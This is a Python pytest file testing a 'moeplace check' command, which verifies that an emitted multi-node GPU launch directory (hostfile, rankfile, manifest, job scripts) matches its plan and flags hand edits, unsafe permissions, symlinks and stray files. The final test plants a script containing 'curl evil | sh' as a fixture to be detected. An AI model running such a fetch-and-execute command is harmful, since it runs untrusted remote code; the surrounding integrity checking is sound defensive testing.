"""`moeplace check` passes an emitted directory and catches hand edits with a message in the plan's terms."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from moeplace.launch.check import check_dir
from moeplace.launch.render import render_launch, write_launch
from tests.launch.plans import chain_plan, ep_plan
from tests.conftest import run_cli as run


@pytest.fixture
def emitted(tmp_path) -> Path:
    d = tmp_path / "launch"
    d.mkdir()
    write_launch(d, render_launch(chain_plan()))
    return d


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def test_fresh_directories_pass(emitted, tmp_path, capsys):
    ep = tmp_path / "ep"
    ep.mkdir()
    write_launch(ep, render_launch(ep_plan()))
    assert check_dir(ep).ok
    code, out, _ = run(["check", str(emitted)], capsys)
    assert code == 0
    assert " ".join(out.split()) == f"{emitted}: ok (12 files agree with plan.json: 9 ranks on 3 nodes)"


def test_corrupted_rank_file(emitted, capsys):
    edit(emitted / "rankfile.tsv", "4\tnode002\t1\t1\t2\t1\t0", "4\tnode002\t1\t1\t2\t3\t0")
    code, _, err = run(["check", str(emitted)], capsys)
    assert code == 1
    assert err.splitlines() == [
        f"error: {emitted}/rankfile.tsv: line 7: expert is 3, plan.json gives 1 (rank 4: GPU 1 of node002, expert 1 of "
        "layer 2)",
        f"error: {emitted}: 1 problem"]


def test_rank_file_with_a_line_missing(emitted):
    edit(emitted / "rankfile.tsv", "8\tnode003\t2\t2\t-\t-\t-\n", "")
    assert check_dir(emitted).problems == ("rankfile.tsv: 8 rank lines, plan.json has 9 ranks",)


def test_corrupted_hostfile(emitted, capsys):
    lines = (emitted / "hostfile").read_text().splitlines()
    lines[3], lines[2] = lines[2], lines[3]
    (emitted / "hostfile").write_text("\n".join(lines) + "\n")
    code, _, err = run(["check", str(emitted)], capsys)
    assert code == 1
    assert err.splitlines() == [
        f"error: {emitted}/hostfile: line 3 is 'node002', but plan.json runs rank 2 on node001",
        f"error: {emitted}/hostfile: line 4 is 'node001', but plan.json runs rank 3 on node002",
        f"error: {emitted}: 2 problems"]


def test_corrupted_manifest_rank(emitted):
    data = json.loads((emitted / "manifest.json").read_text())
    data["ranks"][6]["local_gpu"] = 1
    (emitted / "manifest.json").write_text(json.dumps(data, indent=2) + "\n")
    assert check_dir(emitted).problems == (
        "manifest.json: ranks[6].local_gpu is 1, plan.json gives 0 (rank 6 is GPU 0 of node003 in plan.json)",)


def test_manifest_from_another_plan(emitted):
    edit(emitted / "manifest.json", '"expert": 3', '"expert": 1')
    data = json.loads((emitted / "manifest.json").read_text())
    data["plan_sha256"] = "0" * 64
    (emitted / "manifest.json").write_text(json.dumps(data, indent=2) + "\n")
    problems = check_dir(emitted).problems
    assert problems[0].startswith("manifest.json: plan_sha256 is 000000000000..., plan.json has sha256 ")
    assert problems[0].endswith("the manifest was emitted from another plan")
    assert problems[1] == ("manifest.json: ranks[2].experts[0].expert is 1, plan.json gives 3 (rank 2 is GPU 2 "
                           "of node001 in plan.json)")


def test_manifest_that_breaks_the_schema(emitted):
    edit(emitted / "manifest.json", '"world_size": 9', '"world_size": -9')
    assert check_dir(emitted).problems == ("manifest.json: world_size: Input should be greater than 0",)


def test_edited_script_and_missing_file(emitted):
    edit(emitted / "job.sbatch", "--ntasks=9", "--ntasks=8")
    (emitted / "hostfile.deepspeed").unlink()
    assert check_dir(emitted).problems == (
        "hostfile.deepspeed: missing",
        "job.sbatch: line 4 is '#SBATCH --ntasks=8'; plan.json gives '#SBATCH --ntasks=9'")


def test_plan_that_uses_a_gpu_twice(emitted):
    data = json.loads((emitted / "plan.json").read_text())
    data["placements"][7]["local_gpu"] = 0
    (emitted / "plan.json").write_text(json.dumps(data, indent=2) + "\n")
    assert check_dir(emitted).problems == ("plan.json: ranks 6 and 7 both use GPU 0 of node003",)


def test_engine_export_beside_a_plan_engines_cannot_run(emitted):
    (emitted / "engines" / "sglang-init-expert-location.json").write_text("{}\n")
    problems = check_dir(emitted).problems
    assert problems == ("engines/sglang-init-expert-location.json: present, but the plan has no layout the engines "
                        "run (see engines/README.md)",)


def test_check_of_a_missing_directory(tmp_path, capsys):
    code, _, err = run(["check", str(tmp_path / "nope")], capsys)
    assert code == 2
    assert err == f"error: {tmp_path / 'nope'}: not a directory (expected the output of moeplace emit or solve)\n"


def test_missing_index_is_one_problem_and_defaults_are_used(emitted):
    (emitted / "artifacts.json").unlink()
    assert check_dir(emitted).problems == ("artifacts.json: missing (the options below are the defaults)",)


def test_manifest_buffer_edit_names_the_options(emitted):
    edit(emitted / "manifest.json", '"micro_batches": 2', '"micro_batches": 3')
    assert check_dir(emitted).problems == (
        "manifest.json: buffers.micro_batches is 3, plan.json with the options in artifacts.json gives 2",)


@pytest.mark.parametrize("name", ["hostfile", "rankfile.tsv", "hostfile.deepspeed", "job.sbatch", "torchrun.sh"])
def test_crlf_line_endings_are_named_with_the_line(name, emitted):
    path = emitted / name
    path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    problems = check_dir(emitted).problems
    assert f"{name}: line 1 ends in CR (Windows line endings: convert with dos2unix or emit again)" in problems


def test_a_script_without_its_run_bits_is_a_problem(emitted):
    (emitted / "torchrun.sh").chmod(0o644)
    assert check_dir(emitted).problems == (
        "torchrun.sh: not executable by everyone (mode 0644; emit writes 0755): chmod 755 torchrun.sh",)


def test_world_writable_files_and_directory_are_problems(emitted):
    (emitted / "hostfile").chmod(0o666)
    emitted.chmod(0o777)
    assert check_dir(emitted).problems == (
        "hostfile: writable by every user (mode 0666): anyone could change what the job runs",
        ".: the directory is writable by every user (mode 0777)")


def test_a_symlinked_hostfile_is_a_problem(emitted, tmp_path):
    real = tmp_path / "elsewhere"
    real.write_text((emitted / "hostfile").read_text())
    (emitted / "hostfile").unlink()
    (emitted / "hostfile").symlink_to(real)
    assert check_dir(emitted).problems == (
        f"hostfile: is a symbolic link (to {real}); emit writes plain files",)


def test_an_extra_script_is_a_problem_but_run_outputs_are_not(emitted):
    (emitted / "runs" / "slurm-1").mkdir(parents=True)
    (emitted / "runs" / "slurm-1" / "rank0.json").write_text("{}\n")
    (emitted / "run.json").write_text("{}\n")
    assert check_dir(emitted).ok
    (emitted / "extra.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert check_dir(emitted).problems == (
        "extra.sh: not written by moeplace emit (remove it, or emit into a clean directory)",)
